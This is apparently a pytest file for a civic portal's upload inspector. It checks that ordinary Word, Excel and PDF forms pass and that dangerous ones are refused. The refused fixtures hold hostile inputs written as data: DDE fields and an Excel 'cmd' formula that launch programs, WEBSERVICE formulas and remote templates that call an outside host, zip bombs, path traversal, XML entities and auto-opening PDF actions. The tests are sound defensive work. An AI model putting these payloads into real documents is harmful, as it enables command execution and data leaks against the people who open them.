import io
import warnings
import zipfile
from html import escape

import pytest
from addresses_astray import ASTRAY, BARE, NOWHERE
from docx import Document
from make_files import (
    HYPERLINK,
    PDF_IN_DISGUISE,
    PDF_THAT_ACTS,
    REMOTE_TEMPLATE,
    docx,
    package,
    pdf,
    pdf_with_a_file,
    pdf_with_a_password,
    picture,
    xlsx,
)
from pypdf import PdfReader, PdfWriter
from support import judged

from commune.content.files import attachments
from commune.content.files.attachments import published
from commune.content.files.file_endings import DOCUMENTS, PICTURES, REFUSED


def inspect(data, name):
    return judged(attachments.inspect(data, name), name)


def code(data, name):
    found, problems = inspect(data, name)
    assert (found is None) == bool(problems)
    return problems[0].code if problems else None


WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def word(body: str) -> bytes:
    return docx(
        more={"word/document.xml": f"<w:document {WORD}><w:body>{body}</w:body></w:document>"}
    )


def field(*pieces: str) -> bytes:
    """A field whose instruction stands in several runs, as Word cuts it."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return word(f"<w:p>{begin}{runs}{end}</w:p>")


def related(
    relation: str,
    *,
    name: str = "word/_rels/document.xml.rels",
    code: str = "utf-8",
    space: str = "",
) -> bytes:
    text = (
        f'<?xml version="1.0" encoding="{code}"?><Relationships{space}>{relation}</Relationships>'
    )
    return docx("a", more={name: text.encode(code)})


def formula(text: str) -> bytes:
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return xlsx(
        [["a"]],
        more={
            "xl/worksheets/sheet1.xml": f"<worksheet {space}><sheetData><row><c><f>{text}</f></c></row></sheetData></worksheet>"
        },
    )


def twice() -> bytes:
    out = io.BytesIO(docx("a"))
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as package:
        warnings.simplefilter("ignore")
        package.writestr("word/Document.xml", "<a/>")
    return out.getvalue()


OUT = 'Type="http://x/image" Target="https://la.example/a.png"'
GOOD = {
    "a.docx": docx("Mẫu đơn"),
    "link.docx": docx("a", more={"word/_rels/document.xml.rels": HYPERLINK}),
    "a.xlsx": xlsx([["Tên", "Số"]]),
    "sum.xlsx": formula("SUM(A1:A9)+Bang1[Năm 2024]"),
    "numbered.docx": field(" PA", "GE \\* MERGEFORMAT "),
    "addressed.docx": field('HYPERLINK "https://dichvucong.gov.vn/" \\o "Cổng: trang chủ"'),
    "told.docx": field('HYPERLINK "https://dichvucong.gov.vn/" \\o "Mở javascript: không"'),
    "mail.docx": related(
        '<Relationship Id="r1" Type="http://x/hyperlink" Target="mailto:motcua@xa.gov.vn?subject=H%E1%BB%8Fi" TargetMode="External"/>'
    ),
    "linked.xlsx": formula('HYPERLINK("https://dichvucong.gov.vn/?ma="&amp;A1,"Mở")'),
    "inside.xlsx": formula('HYPERLINK("#Phí!A1","Xem")&amp;HYPERLINK("mailto:"&amp;B1)'),
    "printer.xlsx": xlsx([["a"]], more={"xl/printerSettings/printerSettings1.bin": b"x"}),
    "a.pdf": pdf("Mau don"),
    "a.jpg": picture(),
}
BAD = {
    "macro.docx": (docx("a", more={"word/vbaProject.bin": b"x"}), "F032"),
    "macro.xlsx": (xlsx([["a"]], more={"xl/vbaProject.bin": b"x"}), "F032"),
    "old-macro.xlsx": (xlsx([["a"]], more={"xl/macrosheets/sheet1.xml": "<a/>"}), "F032"),
    "types.docx": (docx("a", more={"[Content_Types].xml": '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'}), "F032"),
    "embedded.docx": (docx("a", more={"word/embeddings/oleObject1.bin": b"x"}), "F032"),
    "activex.docx": (docx("a", more={"word/activeX/activeX1.xml": "<a/>"}), "F032"),
    "template.docx": (docx("a", more={"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}), "F032"),
    "entity.docx": (docx("a", more={"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'}), "F032"),
    "bomb.docx": (docx("a", more={"word/media/a.xml": b"0" * 70_000_000}), "F034"),
    "many.docx": (docx("a", more={f"word/{n}.txt": "" for n in range(2_100)}), "F034"),
    "single-quotes.docx": (related(f"<Relationship Id='r1' {OUT} TargetMode='External'/>"), "F032"),
    "utf-16.docx": (related(f'<Relationship Id="r1" {OUT} TargetMode="External"/>', code="utf-16"), "F031"),
    "other-code.docx": (related("", code="iso-8859-1"), "F032"),
    "prefixed.docx": (related(f'<r:Relationship Id="r1" {OUT} TargetMode="External"/>', space=' xmlns:r="x"'), "F032"),
    "upper.docx": (related(f'<Relationship Id="r1" {OUT} TargetMode="External"/>', name="word/_rels/document.xml.RELS"), "F032"),
    "entity-in-mode.docx": (related(f'<Relationship Id="r1" {OUT} TargetMode="&#69;xternal"/>'), "F032"),
    "script-link.docx": (related('<Relationship Id="r1" Type="http://x/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>'), "F032"),
    **{f"astray-{n}.docx": (related(f"<Relationship Id='r1' Type='http://x/hyperlink' Target='{escape(target)}' TargetMode='External'/>"), "F032") for n, target in enumerate([*NOWHERE, *ASTRAY, *BARE]) if "\x01" not in target},
    "field-astray.docx": (field('HYPERLINK "https:/', '//la.example/"'), "F032"),
    "field-user.docx": (field(" HYPERLINK  https://dichvucong.gov.vn@la.example "), "F032"),
    "field-host.docx": (field('HYPERLINK "//la.example/"'), "F032"),
    "drawing.docx": (docx("a", more={"word/drawings/vmlDrawing1.vml": '<xml><shape href="https:///la.example"/></xml>'}), "F032"),
    "astray.xlsx": (formula('HYPERLINK("https:///la.example/","Cổng")'), "F032"),
    "put-together.xlsx": (formula('HYPERLINK("https://"&amp;A1,"Cổng")'), "F032"),
    "grown.xlsx": (formula('HYPERLINK("https://baochinhphu.vn"&amp;".la.example/","Cổng")'), "F032"),
    "share-link.docx": (related('<Relationship Id="r1" Type="http://x/hyperlink" Target="\\\\may\\o" TargetMode="External"/>'), "F032"),
    "chunk.docx": (word("<w:altChunk/>"), "F032"),
    "chunk-part.docx": (docx("a", more={"word/afchunk.mht": "a"}), "F032"),
    "exe.docx": (docx("a", more={"word/media/a.exe": b"MZ"}), "F032"),
    "dde.docx": (field("DDE", "AUTO c:\\\\a.exe"), "F032"),
    "picture.docx": (field(' INCLUDEPICTURE "https://la.example/a.png" '), "F032"),
    "simple.docx": (word('<w:p><w:fldSimple w:instr="DDEAUTO a b"/></w:p>'), "F032"),
    "unfinished.docx": (word("<w:p><w:r><w:instrText>DDE a</w:instrText></w:r></w:p>"), "F032"),
    "field-link.docx": (field('HYPERLINK "file:///c:/a.exe"'), "F032"),
    "web.xlsx": (formula('WEBSERVICE("https://la.example/"&amp;A1)'), "F032"),
    "dde.xlsx": (formula("cmd|'/C calc'!A0"), "F032"),
    "other-book.xlsx": (formula("[1]Sheet1!A1"), "F032"),
    "book-part.xlsx": (xlsx([["a"]], more={"xl/externalLinks/externalLink1.xml": "<a/>"}), "F032"),
    "climbs.docx": (docx("a", more={"word/../../a.xml": "<a/>"}), "F032"),
    "two-kinds.docx": (b"MZ" + docx("a"), "F031"),
    "more-behind.docx": (docx("a") + b"<script>", "F032"),
    "twice.docx": (twice(), "F032"),
    "deep.docx": (word("<w:p>" * 20_000 + "</w:p>" * 20_000), "F034"),
    "two-kinds.pdf": (pdf("a") + docx("a"), "F031"),
    "opens.pdf": (pdf("a", catalog="/OpenAction << /S /URI /URI (https://la.example/) >>"), "F032"),
    "opens-file.pdf": (pdf("a", catalog="/AA << /WC << /S /GoToR /F (a.pdf) >> >>"), "F032"),
    "old.docx": (b"\xd0\xcf\x11\xe0" + b"x" * 600, "F033"),
    "not-zip.docx": (b"PK\x03\x04" + b"x" * 600, "F031"),
    "other.docx": (package({"a.txt": "a"}), "F031"),
    "sheet.docx": (xlsx([["a"]]), "F031"),
    "broken.docx": (docx("a", more={"word/document.xml": "<a>"}), "F031"),
    "acts.pdf": (PDF_THAT_ACTS, "F032"),
    "in-disguise.pdf": (PDF_IN_DISGUISE, "F032"),
    "file.pdf": (pdf_with_a_file(), "F032"),
    "locked.pdf": (pdf_with_a_password(), "F033"),
    "not.pdf": (b"<html>", "F031"),
    "cut.pdf": (pdf("a")[:40], "F031"),
    "png.jpg": (picture("PNG"), "F031"),
}  # fmt: skip


@pytest.mark.parametrize("name", GOOD)
def test_what_citizens_need_is_let_through(name):
    assert code(GOOD[name], name) is None


@pytest.mark.parametrize("name", BAD)
def test_what_acts_by_itself_is_locked_or_broken_is_refused(name):
    data, expected = BAD[name]
    assert code(data, name) == expected


def test_no_ending_is_both_allowed_and_refused():
    assert not {*PICTURES, *DOCUMENTS} & set(REFUSED)
    assert {".svg", ".docm", ".xlsm", ".doc", ".exe", ".html"} <= set(REFUSED)


def test_the_words_of_documents_are_read_with_the_heads_of_their_tables():
    found, _ = inspect(docx("Danh sách", table=[["Tên", "CMND"], ["A", "183456789"]]), "a.docx")
    assert found.rows == (
        (("Danh sách",), ()),
        (("Tên", "CMND"), ("Tên", "CMND")),
        (("A", "183456789"), ("Tên", "CMND")),
    )
    found, _ = inspect(pdf("Mau don", "so 2"), "a.pdf")
    assert [cells for cells, _ in found.rows] == [("Mau don",), ("so 2",)]


def test_a_sheet_gives_back_the_zero_that_it_took():
    found, _ = inspect(
        xlsx([["Tên", "CCCD", "SĐT", "Số tiền"], ["A", "042078001234", "0912345678", "912345678"]]),
        "a.xlsx",
    )
    assert found.rows[1][0] == ("A", "042078001234", "0912345678", "912345678")


def test_real_documents_of_other_programs_pass(tmp_path):
    paper = Document()
    paper.add_heading("Tờ khai", 1)
    paper.add_table(1, 2).rows[0].cells[0].text = "Họ tên"
    paper.core_properties.author = "Nguyễn Văn Tám"
    paper.save(tmp_path / "a.docx")
    found, problems = inspect((tmp_path / "a.docx").read_bytes(), "a.docx")
    assert problems == []
    assert (("Họ tên", ""), ("Họ tên", "")) in found.rows
    assert (("Nguyễn Văn Tám",), ()) in found.rows


def test_the_published_copy_names_no_author_and_is_always_the_same(tmp_path):
    paper = Document()
    paper.add_paragraph("Tờ khai")
    paper.core_properties.author = paper.core_properties.last_modified_by = "Nguyễn Văn Tám"
    paper.save(tmp_path / "a.docx")
    changed = f"<w:document {WORD}><w:body><w:p><w:ins w:author='Lê Thị Chín'><w:r><w:t>Mới</w:t></w:r></w:ins></w:p></w:body></w:document>"
    for data in ((tmp_path / "a.docx").read_bytes(), docx(more={"word/document.xml": changed})):
        clean = published(data, "a.docx")
        assert clean == published(data, "a.docx") == published(clean, "a.docx")
        with zipfile.ZipFile(io.BytesIO(clean)) as package:
            everything = b"".join(map(package.read, package.namelist())).decode("utf-8", "replace")
            assert {info.date_time[0] for info in package.infolist()} == {1980}
        assert "Tám" not in everything and "Chín" not in everything
        assert inspect(clean, "a.docx")[1] == []
    assert (
        Document(io.BytesIO(published((tmp_path / "a.docx").read_bytes(), "a.docx")))
        .paragraphs[0]
        .text
        == "Tờ khai"
    )


def test_words_that_only_some_readers_see_are_read_too():
    data = docx(
        "a",
        more={
            "word/comments.xml": f"<w:comments {WORD}><w:comment><w:p><w:r><w:t>ghi chú</w:t></w:r></w:p></w:comment></w:comments>",
            "docProps/core.xml": "<a><title>tiêu đề</title></a>",
            "word/footer1.xml": f"<w:ftr {WORD}><w:p><w:del><w:r><w:delText>đã xóa</w:delText></w:r></w:del></w:p></w:ftr>",
        },
    )
    cells = [cells for cells, _ in inspect(data, "a.docx")[0].rows]
    assert {("ghi chú",), ("tiêu đề",), ("đã xóa",)} <= set(cells)
    data = xlsx(
        [["a"]],
        more={
            "xl/workbook.xml": '<workbook><sheets><sheet name="hộ nghèo"/></sheets></workbook>',
            "xl/comments1.xml": "<comments><comment><text><r><t>0912</t></r><r><t>345678</t></r></text></comment></comments>",
        },
    )
    cells = [cells for cells, _ in inspect(data, "a.xlsx")[0].rows]
    assert {("hộ nghèo",), ("0912345678",)} <= set(cells)
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf("a"))))
    writer.add_metadata({"/Author": "Nguyen Van Tam"})
    out = io.BytesIO()
    writer.write(out)
    assert ("Nguyen Van Tam",) in [cells for cells, _ in inspect(out.getvalue(), "a.pdf")[0].rows]


def test_a_sheet_gives_back_the_day_that_it_counts():
    found, _ = inspect(
        xlsx([["Họ tên", "Ngày sinh", "Năm sinh", "Số hộ"], ["A", "21256", "1958", "21256"]]),
        "a.xlsx",
    )
    assert found.rows[1][0] == ("A", "12/03/1958", "1958", "21256")


def test_a_picture_inside_a_document_tells_no_place():
    data = docx(
        "a",
        more={
            "word/media/image1.jpg": picture(exif=True),
            "word/media/image2.jpg": b"\xff\xd8",
            "word/media/image3.png": picture("PNG"),
        },
    )
    assert b"Exif" in zipfile.ZipFile(io.BytesIO(data)).read("word/media/image1.jpg")
    with zipfile.ZipFile(io.BytesIO(published(data, "a.docx"))) as package:
        assert b"Exif" not in package.read("word/media/image1.jpg")
        assert package.read("word/media/image2.jpg") == b"\xff\xd8"


def test_a_scan_is_told():
    found, _ = inspect(pdf(), "a.pdf")
    assert found.is_dumb
